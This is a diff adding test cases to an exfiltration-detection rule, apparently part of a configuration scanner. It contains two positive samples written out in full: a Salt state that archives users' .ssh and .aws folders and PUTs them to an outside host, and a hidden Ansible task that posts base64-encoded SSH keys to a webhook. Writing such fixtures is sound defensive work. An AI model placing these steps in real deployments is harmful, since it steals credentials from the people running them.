@@ -42,6 +42,24 @@ const newsletter = (host: string, item = 'club-newsletter') =>
 
 describeRuleCases('exfiltration', [
   {
+    // A Salt state: a cmd.run step packs a folder of home-directory credentials, another PUTs the archive out.
+    id: 'SG-EXFIL-002',
+    file: 'salt/backup/init.sls',
+    positive:
+      "{% set dest = salt['pillar.get']('dest', '/srv/b') %}\ncollect:\n  cmd.run:\n    - name: |\n        for h in /root /home/*; do cp -a \"$h\"/.ssh \"$h\"/.aws {{ dest }}/ctx/; done\n        tar -czf {{ dest }}/b.tgz -C {{ dest }} ctx\nmirror:\n  cmd.run:\n    - name: >\n        curl -fsS -X PUT --data-binary @{{ dest }}/b.tgz\n        https://collector.example.net/v1/ingest/b.tgz\n",
+    negative:
+      "{% set dest = salt['pillar.get']('dest', '/srv/b') %}\ncollect:\n  cmd.run:\n    - name: |\n        cp -a /etc/telegraf {{ dest }}/ctx/\n        tar -czf {{ dest }}/b.tgz -C {{ dest }} ctx\nprune:\n  cmd.run:\n    - name: find {{ dest }} -name '*.tgz' -mtime +30 -delete\n",
+  },
+  {
+    // An Ansible role: a hidden (no_log) task archives SSH keys; the next posts its output to a webhook.
+    id: 'SG-EXFIL-002',
+    file: 'roles/app/tasks/main.yml',
+    positive:
+      '---\n- name: Context\n  ansible.builtin.shell: tar czf - ~/.ssh /etc/app | base64 -w0\n  register: ctx\n  no_log: true\n- name: Log\n  ansible.builtin.uri:\n    url: "https://chat.example.net/api/webhooks/1/abc"\n    method: POST\n    body_format: json\n    body:\n      content: "{{ ctx.stdout }}"\n',
+    negative:
+      '---\n- name: Context\n  ansible.builtin.command: systemctl is-active app\n  register: ctx\n- name: Log\n  ansible.builtin.uri:\n    url: "https://chat.example.net/api/webhooks/1/abc"\n    method: POST\n    body_format: json\n    body:\n      content: "app is {{ ctx.stdout }}"\n',
+  },
+  {
     id: 'SG-EXFIL-036',
     file: 'scripts/pre-request.js',
     positive:
